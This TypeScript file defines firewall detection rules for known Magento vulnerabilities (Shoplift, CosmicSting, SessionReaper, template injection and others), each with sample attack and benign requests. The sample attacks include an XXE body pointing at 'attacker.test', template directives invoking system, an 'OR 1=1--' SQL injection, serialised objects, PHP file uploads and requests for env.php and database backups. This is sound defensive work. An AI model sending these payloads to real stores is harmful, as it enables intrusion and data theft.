import { filePost, formPost, get, jsonPost, send } from '../../../request-samples.ts';
import {
  allOf,
  anyFieldName,
  anyOf,
  bodyHas,
  bodyMatches,
  EXECUTABLE,
  fileNameMatches,
  hasField,
  outsideSources,
  pathHas,
  pathMatches,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

export const magentoRules = [
  detection({
    ref: 'managed-magento-shoplift',
    description:
      'Magento: creates an administrator with a forwarded request of the editor (CVE-2015-1397)',
    categories: ['magento', 'sql-injection', 'authentication-bypass', 'cve-2015-1397'],
    expression: allOf(
      pathHas('/cms_wysiwyg/directive', '/catalog_category/', '/adminhtml_'),
      anyOf(hasField('forwarded'), hasField('filter')),
      hasField('___directive'),
    ),
    matching: [
      formPost('/index.php/admin/Cms_Wysiwyg/directive/index/', {
        ___directive: 'e3tibG9jayB0eXBlPUFkbWluaHRtbH19',
        filter: 'cG9wdWxhcml0eVtmcm9tXT0w',
        forwarded: '1',
      }),
      get('/admin/Cms_Wysiwyg/directive/?___directive=e3t9fQ&filter=cG9w&forwarded=1'),
    ],
    other: [
      get('/admin/cms_wysiwyg/directive/___directive/e3ttZWRpYX19/key/5f3/'),
      get('/admin/cms_wysiwyg/directive/?___directive=e3ttZWRpYX19'),
    ],
  }),
  detection({
    ref: 'managed-magento-cosmicsting',
    description:
      'Magento: reads files with XML in a nested object of the REST API (CosmicSting, CVE-2024-34102)',
    categories: ['magento', 'xxe', 'deserialization', 'cve-2024-34102'],
    expression: allOf(
      pathHas('/v1/'),
      pathHas('/rest/', '/v1/guest-carts', '/v1/carts'),
      bodyHas('sourcedata', 'dataisurl'),
      bodyHas('dataisurl', 'collectorlist', 'totalcollector', 'totalscollector'),
    ),
    matching: [
      jsonPost('/rest/V1/guest-carts/1/estimate-shipping-methods', {
        address: {
          totalsCollector: {
            collectorList: {
              totalCollector: {
                sourceData: {
                  data: 'http://attacker.test/x.xml',
                  dataIsURL: true,
                  options: 12345678,
                },
              },
            },
          },
        },
      }),
      jsonPost('/rest/all/V1/guest-carts/x/estimate-shipping-methods', {
        address: {
          totalsReader: {
            collectorList: {
              totalCollector: { sourcedata: { data: '<?xml version="1.0"?>', options: 16 } },
            },
          },
        },
      }),
    ],
    other: [
      jsonPost('/rest/V1/guest-carts/a1/estimate-shipping-methods', {
        address: { countryId: 'DE', postcode: '10115' },
      }),
      jsonPost('/rest/V1/carts/mine/items', { cartItem: { sku: 'data', qty: 1 } }),
    ],
  }),
  detection({
    ref: 'managed-magento-template-directive',
    description:
      'Magento: runs functions with directives of mail templates (CVE-2022-24086, CVE-2022-24087)',
    categories: [
      'magento',
      'template-injection',
      'remote-code-execution',
      'cve-2022-24086',
      'cve-2022-24087',
    ],
    expression: allOf(
      pathHas(
        '/rest/',
        '/checkout',
        '/customer',
        '/newsletter',
        '/graphql',
        '/wishlist',
        '/contact',
      ),
      bodyHas(
        'addafterfiltercallback',
        'gettemplatefilter',
        '{{var this.',
        '{{block class=',
        '{{var order.getallitems',
      ),
    ),
    matching: [
      formPost('/newsletter/subscriber/new/', {
        email: '{{var this.getTemplateFilter().filter(x)}}@a.test',
      }),
      jsonPost('/rest/V1/guest-carts/1/shipping-information', {
        addressInformation: {
          shipping_address: { firstname: '{{var this.getTemp().addAfterFilterCallback(system)}}' },
        },
      }),
    ],
    other: [
      formPost('/newsletter/subscriber/new/', { email: 'ada@example.com' }),
      formPost('/contact/index/post', { comment: 'My template has {{var name}}' }),
    ],
  }),
  detection({
    ref: 'managed-magento-recently-viewed-sql',
    description: 'Magento: SQL in the list of products that were viewed (CVE-2019-7139)',
    categories: ['magento', 'sql-injection', 'cve-2019-7139'],
    expression: allOf(
      pathHas('/product_frontend_action/synchronize'),
      anyFieldName('\\[(?:from|to|neq|like|regexp)\\]'),
    ),
    matching: [
      get(
        '/catalog/product_frontend_action/synchronize?type_id=recently_products&ids[0][added_at]=&ids[0][product_id][from]=%3f&ids[0][product_id][to]=)))+OR+1=1--',
      ),
      get(
        '/shop/catalog/product_frontend_action/synchronize?ids%5B0%5D%5Bproduct_id%5D%5Bfrom%5D=%3F',
      ),
    ],
    other: [
      get(
        '/catalog/product_frontend_action/synchronize?type_id=recently_viewed_product&ids[7][added_at]=1715000000&ids[7][product_id]=7',
      ),
      get('/catalog/product/view/id/7?range[from]=1'),
    ],
  }),
  detection({
    ref: 'managed-magento-configuration-file',
    description: 'Magento: reads the configuration with the key of the shop',
    categories: ['magento', 'information-disclosure'],
    expression: allOf(
      pathHas(
        '/app/etc/local.xml',
        '/app/etc/env.php',
        '/app/etc/config.php',
        '/var/export/customer',
        '/var/backups/',
      ),
      outsideSources('etc|var'),
    ),
    matching: [
      get('/app/etc/local.xml'),
      get('/shop/app/etc/env.php'),
      get('/var/backups/1715000000_db.sql.gz'),
    ],
    other: [
      get('/ada/shop/blob/main/app/etc/env.php'),
      get('/app/etc/'),
      get('/static/app/etcetera.js'),
      get('/pub/media/catalog/env.png'),
    ],
  }),
  detection({
    ref: 'managed-magento-session-reaper',
    description:
      'Magento: sets properties of the session in a nested object of the REST API (SessionReaper, CVE-2025-54236)',
    categories: ['magento', 'deserialization', 'remote-code-execution', 'cve-2025-54236'],
    expression: allOf(
      pathHas('/v1/guest-carts', '/v1/carts', '/v1/customers'),
      bodyHas('sessionconfig', 'session_config', 'savepath', 'save_path'),
    ),
    matching: [
      send(
        'PUT',
        '/rest/default/V1/guest-carts/abc/order',
        'application/json',
        '{"paymentMethod":{"paymentData":{"context":{"urlBuilder":{"session":{"sessionConfig":{"savePath":"media/customer_address"}}}}}}}',
      ),
      jsonPost('/rest/V1/guest-carts/abc/payment-information', {
        paymentMethod: { data: { session: { session_config: {} } } },
      }),
    ],
    other: [
      jsonPost('/rest/V1/guest-carts/abc/payment-information', {
        email: 'ada@example.com',
        paymentMethod: { method: 'checkmo' },
      }),
      jsonPost('/api/V1/profile', { save_path: '/home' }),
    ],
  }),
  detection({
    ref: 'managed-magento-custom-option-file',
    description: 'Magento: uploads a script as a file option of an item of the cart',
    categories: ['magento', 'file-upload', 'remote-code-execution'],
    expression: allOf(
      pathHas('/v1/guest-carts', '/v1/carts'),
      bodyHas('base64_encoded_data', 'base64encodeddata'),
      bodyMatches(`"name" *: *"[^"]{0,200}${EXECUTABLE}`),
    ),
    matching: [
      jsonPost('/rest/V1/guest-carts/a/items', {
        cart_item: {
          sku: 'x',
          product_option: {
            extension_attributes: {
              custom_options: [
                {
                  extension_attributes: {
                    file_info: {
                      base64_encoded_data: 'R0lGODlh',
                      type: 'image/gif',
                      name: 'a.php',
                    },
                  },
                },
              ],
            },
          },
        },
      }),
      jsonPost('/rest/default/V1/carts/mine/items', {
        file_info: { name: 'x.phtml', base64_encoded_data: 'R0lG' },
      }),
    ],
    other: [
      jsonPost('/rest/V1/guest-carts/a/items', {
        cart_item: { sku: 'x', file_info: { base64_encoded_data: 'R0lG', name: 'logo.gif' } },
      }),
      jsonPost('/rest/V1/guest-carts/a/items', { cart_item: { sku: 'php-book', qty: 1 } }),
    ],
  }),
  detection({
    ref: 'managed-magento-payment-object',
    description: 'Magento: a serialised object in the additional data of a payment (CVE-2016-4010)',
    categories: ['magento', 'deserialization', 'remote-code-execution', 'cve-2016-4010'],
    expression: allOf(
      pathHas('/v1/guest-carts', '/v1/carts'),
      bodyHas('additional_data', 'additional_information', 'additionaldata'),
      bodyMatches('[oc]:[0-9]+:\\\\?"'),
    ),
    matching: [
      jsonPost('/rest/V1/guest-carts/a/set-payment-information', {
        paymentMethod: { method: 'checkmo', additional_data: 'O:13:"Credis_Client":0:{}' },
      }),
      jsonPost('/rest/V1/carts/mine/payment-information', {
        paymentMethod: { additional_information: 'C:3:"Foo":0:{}' },
      }),
    ],
    other: [
      jsonPost('/rest/V1/guest-carts/a/set-payment-information', {
        paymentMethod: { method: 'checkmo', additional_data: { po: 'PO:12:3' } },
      }),
      jsonPost('/rest/V1/guest-carts/a/items', { cart_item: { sku: 'O:1' } }),
    ],
  }),
  detection({
    ref: 'managed-magento-address-file',
    description:
      'Magento: uploads a script or a session as an attachment of an address (CVE-2025-54236)',
    categories: ['magento', 'file-upload', 'cve-2025-54236'],
    expression: allOf(
      pathHas('/customer/address_file/upload'),
      fileNameMatches(`(?:${EXECUTABLE}|^sess_.*)$`),
    ),
    matching: [
      filePost('/customer/address_file/upload', 'sess_0123456789abcdef'),
      filePost('/customer/address_file/upload', 'a.phtml'),
    ],
    other: [
      filePost('/customer/address_file/upload', 'certificate.pdf'),
      filePost('/upload', 'sess_01'),
    ],
  }),
  detection({
    ref: 'managed-magento-magmi',
    description:
      'Magento Mass Importer: imports products or runs code without authentication (CVE-2020-5777, CVE-2017-7391)',
    categories: [
      'magento',
      'authentication-bypass',
      'remote-code-execution',
      'cve-2020-5777',
      'cve-2017-7391',
    ],
    action: 'log',
    expression: pathHas('/magmi/web/', '/magmi-importer/web/'),
    matching: [
      get('/magmi/web/magmi.php'),
      formPost('/magmi/web/magmi_saveprofile.php', { profile: 'x' }),
    ],
    other: [get('/magmi'), get('/blog/magmi-web-guide')],
  }),
  detection({
    ref: 'managed-magento-connect',
    description: 'Magento: opens the installer of extensions, where attackers try passwords',
    categories: ['magento', 'broken-access-control'],
    action: 'log',
    expression: allOf(pathMatches('/downloader/(?:index\\.php)?$'), pathHas('/downloader/')),
    matching: [
      get('/downloader/'),
      formPost('/shop/downloader/index.php', { username: 'admin', password: 'x' }),
    ],
    other: [get('/downloader/app.js'), get('/tools/downloader')],
  }),
];
